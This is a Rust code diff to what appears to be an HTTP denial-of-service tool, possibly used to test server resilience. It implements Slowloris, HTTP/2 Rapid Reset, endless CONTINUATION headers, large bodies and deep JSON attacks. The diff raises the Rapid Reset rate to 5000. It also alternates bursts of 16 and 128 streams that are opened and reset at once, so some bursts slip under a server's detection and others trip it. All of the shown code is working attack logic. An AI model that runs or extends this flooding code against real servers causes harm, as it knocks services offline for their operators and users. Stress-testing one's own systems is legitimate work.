@@ -31,8 +31,10 @@ const JSON_BYTES: usize = 1 << 20;
 const BODY_BYTES: u64 = 1 << 30;
 const PIECE_BYTES: usize = 64 << 10;
 const PIECES: usize = 1024;
-/// Streams that are opened and reset in one write, and frames of a header that never ends.
-const STREAMS_AT_ONCE: u32 = 16;
+/// Streams that are opened and reset in one write, by every other client: so few that none is left over before the next ones,
+/// and so many that a server can tell.
+const STREAMS_AT_ONCE: [u32; 2] = [16, 128];
+/// Frames of a header that never ends, and their bytes.
 const CONTINUATIONS: usize = 256;
 const CONTINUATION_BYTES: usize = 8 << 10;
 
@@ -94,7 +96,7 @@ pub(crate) async fn run(attack: Attack, options: &Options) -> Result<AttackRepor
     let (_, time) = options.times()?;
     let default_rate = match attack {
         Attack::Slowloris => f64::from(options.clients),
-        Attack::RapidReset => 2000.0,
+        Attack::RapidReset => 5000.0,
         Attack::Headers => 200.0,
         Attack::Body => 1600.0,
         Attack::DeepJson => 50.0,
@@ -151,7 +153,7 @@ impl Attacker {
         let sending = async {
             let sent = match self.attack {
                 Attack::Slowloris => self.slowloris(&mut writer).await,
-                Attack::RapidReset => self.rapid_reset(&mut writer).await,
+                Attack::RapidReset => self.rapid_reset(&mut writer, STREAMS_AT_ONCE[number as usize % 2]).await,
                 Attack::Headers if number.is_multiple_of(2) => self.large_headers(&mut writer).await,
                 Attack::Headers => self.endless_headers(&mut writer).await,
                 Attack::Body => self.large_body(&mut writer, number.is_multiple_of(2)).await,
@@ -211,23 +213,23 @@ impl Attacker {
         }
     }
 
-    async fn rapid_reset(&self, writer: &mut OwnedWriteHalf) -> io::Result<()> {
+    async fn rapid_reset(&self, writer: &mut OwnedWriteHalf, at_once: u32) -> io::Result<()> {
         writer.write_all(&opening()).await?;
         let question = request_block(&self.authority, "/search?q=how+do+ships+find+harbour+at+night");
-        let mut ticks = interval(self.pause * STREAMS_AT_ONCE);
+        let mut ticks = interval(self.pause * at_once);
         ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
         let mut stream = 1;
         // Numbers of streams end at 2^31.
         while stream < 1 << 30 {
             ticks.tick().await;
             let mut frames = Vec::new();
-            for _ in 0..STREAMS_AT_ONCE {
+            for _ in 0..at_once {
                 push_frame(&mut frames, HEADERS, END_HEADERS | END_STREAM, stream, &question);
                 push_frame(&mut frames, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                 stream += 2;
             }
             writer.write_all(&frames).await?;
-            self.tally().sent += u64::from(STREAMS_AT_ONCE);
+            self.tally().sent += u64::from(at_once);
         }
         Ok(())
     }
